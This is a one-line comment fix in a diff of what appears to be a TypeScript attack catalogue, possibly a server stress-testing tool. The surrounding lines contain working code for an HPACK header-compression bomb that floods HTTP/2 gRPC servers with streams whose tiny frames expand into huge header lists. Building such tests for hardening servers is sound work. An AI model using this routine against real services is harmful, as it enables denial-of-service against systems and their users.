@@ -269,7 +269,7 @@ export const grpcStreams: readonly Attack[] = [
       flood(target, 8, async (connection, isOver) => {
         const first = Buffer.concat([grpcHeaders(INFER), literal(0x40, 'x-bomb', 'v'.repeat(3900))]);
         await connection.send(frame(FRAME.headers, END_HEADERS, 1, first));
-        // The first entry of the dynamic table has number 62.
+        // The first entry of the dynamic table has index 62.
         const again = Buffer.concat([grpcHeaders(INFER), Buffer.alloc(15_000, 0x80 | 62)]);
         for (let stream = 3; !isOver() && stream < 1000; stream += 2) {
           await connection.send(frame(FRAME.headers, END_HEADERS, stream, again));
